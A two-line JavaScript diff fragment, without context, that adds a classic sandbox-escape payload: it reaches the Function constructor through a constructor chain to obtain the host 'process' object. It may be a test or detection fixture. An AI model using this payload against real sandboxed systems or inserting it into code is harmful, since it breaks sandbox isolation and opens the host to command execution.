@@ -1,0 +1,2 @@
+// The classic escape: reach Function through a constructor chain and build code from a string.
+return ({}).constructor.constructor('return process')();
